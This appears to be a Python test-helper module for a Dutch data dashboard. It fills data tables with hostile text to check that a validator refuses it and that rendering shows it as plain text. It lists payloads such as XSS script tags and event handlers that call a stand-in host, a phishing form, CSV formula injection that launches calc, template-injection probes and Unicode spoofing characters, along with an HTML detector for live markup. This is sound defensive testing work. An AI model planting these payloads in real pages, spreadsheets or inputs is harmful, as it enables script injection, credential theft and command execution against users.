"""Data whose every text wants to be something else: markup, a formula, an order to the reader."""

import csv
import io
import unicodedata
from collections.abc import Mapping, Sequence
from dataclasses import replace
from html.parser import HTMLParser
from itertools import cycle
from pathlib import Path
from types import MappingProxyType

import pandas as pd

from wsd_dash.contract.schema import Column, Package, Table
from wsd_dash.sources.tables import Tables

HOST = "kwaad.example"
"""Where hostile text would lead a browser; nothing may ever ask for it."""
REFUSED: Mapping[str, str] = MappingProxyType(
    {
        "script": f"<script src=https://{HOST}/x.js></script>",
        "formulier": f'<form action="https://{HOST}"><input name=wachtwoord></form>',
        "laag": '<div style="position:fixed;inset:0;background:#fff">Log in</div>',
        "beeld": f"<img src=https://{HOST}/pixel.png onerror=alert(1)>",
        "stijl": f"<style>@import url(https://{HOST}/x.css);body{{display:none}}</style>",
        "svg": "<svg onload=alert(1)>",
        "opmerking": "<!-- x",
        "entiteit": "&lt;script&gt;",
        "richting": "gemeente \u202egnp.exe",
        "onzichtbaar": "Arn\u200bhem",
        "stuurteken": "regel\x07bel",
        "nul": "a\x00b",
        "regel": "een\u2028twee",
    }
)
"""Text that `controleer` has to refuse, by a name."""
ACCEPTED: Sequence[str] = (
    f"![beeld](https://{HOST}/pixel.png)",
    f"[klik hier](https://{HOST}/inloggen)",
    "[klik](javascript:alert(1))",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}",
    "${7*7} %{x} {0.__class__} %s %(a)s",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    '=HYPERLINK("https://kwaad.example";"klik")',
    "'=1+1",
    "\" onmouseover=alert(1) style='position:fixed'",
    "< script >alert(1)< /script >",
    "]]> --> */ `code` ```",
    "# Kop **vet** _schuin_ ~~door~~ | cel |",
    ":red[rood] :material/home: :smile: $x^2$ $$\\href{javascript:alert(1)}{x}$$",
    "\\u003cscript\\u003e \\x3c \\n \\",
    "#set page(width: 1pt) #eval(\"1\") @ref <> $ * _ // /* [a] 'b'",
    "groot " + "\u0301" * 40 + " e\u0301",
    "🌱👩\u20e3 قراءة שלום ﷽",
    "x" * 300,
)
"""Text that is odd and allowed: it must come out everywhere as the text it is."""


def free_columns(table: Table) -> list[Column]:
    """The columns of a table in which any text may stand."""
    keys = {name for key in table.foreign_keys for name in key.columns}
    return [
        column
        for column in table.columns
        if column.type == "string"
        and not column.categories
        and not column.pattern
        and column.name not in keys
        and column.name != "url"
    ]


def poison(source: Path, target: Path, package: Package, texts: Sequence[str] = ACCEPTED) -> Path:
    """Copy a data folder with a hostile text in every cell of every column that takes any text.

    Cells that were empty are filled too. A number behind each keeps them apart.
    """
    target.mkdir()
    numbered = enumerate(cycle(texts))
    for table in package.tables:
        free = {column.name for column in free_columns(table)}
        rows = _rows(source / table.path)
        for row in rows:
            for name in free:
                row[name] = _apart(*next(numbered))
            if "url" in row:
                row["url"] = f"https://{HOST}/a?b=%3Cscript%3E&c=javascript:alert(1)#{{x}}"
        _write(target / table.path, table, rows)
    return target


def poison_once(source: Path, target: Path, package: Package, text: str) -> Path:
    """Copy a data folder with one hostile text in the first row of every column that takes any."""
    target.mkdir()
    for table in package.tables:
        rows = _rows(source / table.path)
        for column in free_columns(table):
            rows[0][column.name] = text
        _write(target / table.path, table, rows)
    return target


def set_urls(source: Path, target: Path, package: Package, url: str) -> int:
    """Copy a data folder with this as the web address of every first row; return how many."""
    target.mkdir()
    number = 0
    for table in package.tables:
        rows = _rows(source / table.path)
        if "url" in table.column_names:
            rows[0]["url"] = url
            number += 1
        _write(target / table.path, table, rows)
    return number


def past_the_check(tables: Tables, package: Package) -> Tables:
    """Put what `controleer` refuses in every text of tables that were read: the second wall."""
    numbered = enumerate(cycle(REFUSED.values()))
    frames = {}
    for table in package.tables:
        free = {column.name for column in free_columns(table)}
        frame = tables.frames[table.name]
        frames[table.name] = pd.DataFrame(
            {
                name: pd.Series([_apart(*next(numbered)) for _ in frame.index], dtype="str")
                if name in free
                else frame[name]
                for name in frame.columns
            }
        )
    return replace(tables, frames=MappingProxyType(frames))


class Parts(HTMLParser):
    """What markup is made of: its elements and attributes, and where these lead."""

    def __init__(self, markup: str) -> None:
        """Read markup."""
        super().__init__(convert_charrefs=True)
        self.elements: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.leads: list[tuple[str, str, str]] = []
        self.styles: list[str] = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note one element."""
        self.elements.add(tag)
        for name, value in attrs:
            self.attributes.add((tag, name))
            if name in {"href", "src", "action", "srcset", "formaction", "xlink:href", "data"}:
                self.leads.append((tag, name, value or ""))
            if name == "style":
                self.styles.append(value or "")


def live(markup: str) -> list[str]:
    """Name what in markup could run, cover the page or ask another host for something."""
    parts = Parts(markup)
    bad = parts.elements & {"iframe", "object", "embed", "form", "base", "meta", "link", "script"}
    found = sorted(bad)
    found += [f"{tag} {name}" for tag, name in parts.attributes if name.startswith("on")]
    found += [
        f"{tag} {name}={value}"
        for tag, name, value in parts.leads
        if value.strip().lower().startswith(("javascript:", "data:text", "vbscript:"))
        or (HOST in value and (tag, name) != ("a", "href"))
    ]
    found += [text for text in parts.styles if HOST in text or "fixed" in text]
    return found


def controls(text: str, *, apart_from: str = "\n") -> set[str]:
    """Return the controls and hidden signs in a text, by code point."""
    return {
        f"U+{ord(sign):04X}"
        for sign in text
        if sign not in apart_from and unicodedata.category(sign) in {"Cc", "Cf", "Cs", "Co"}
    }


def _apart(number: int, text: str) -> str:
    return f"{text} {number}"


def _rows(path: Path) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def _write(path: Path, table: Table, rows: Sequence[Mapping[str, str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, table.column_names, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
